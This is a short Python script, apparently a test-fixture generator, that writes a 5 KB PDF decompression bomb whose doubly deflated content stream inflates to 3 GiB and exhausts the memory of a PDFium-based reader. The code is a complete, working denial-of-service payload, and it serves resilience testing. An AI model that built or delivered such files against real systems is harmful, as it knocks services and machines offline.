#!/usr/bin/env python3
"""Writes hostile/decompression-bomb.pdf: a 5 KB PDF whose page 1 content stream inflates to 3 GiB.

The stream is deflated twice ([/FlateDecode /FlateDecode]), which is how a few kilobytes
become gigabytes; its content is nothing but spaces, so a reader that survives the inflation
shows a blank page. PDFium inflates a content stream whole before parsing it, so opening the
file (the engine reads page 1's text) makes a worker allocate gigabytes: with a memory limit
it costs that worker, without one the machine. Run it again only to change the file.
"""
import os
import zlib

INFLATED = 3 << 30
chunk = b" " * (1 << 24)
inner = zlib.compressobj(9)
once = b"".join(inner.compress(chunk) for _ in range(INFLATED // len(chunk))) + inner.flush()
twice = zlib.compress(once, 9)

objects = [
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
    b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n" % len(twice)
    + twice
    + b"\nendstream",
]
out = bytearray(b"%PDF-1.7\n")
offsets = []
for number, body in enumerate(objects, start=1):
    offsets.append(len(out))
    out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
xref = len(out)
out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
target = os.path.join(os.path.dirname(os.path.abspath(__file__)), "hostile", "decompression-bomb.pdf")
with open(target, "wb") as file:
    file.write(out)
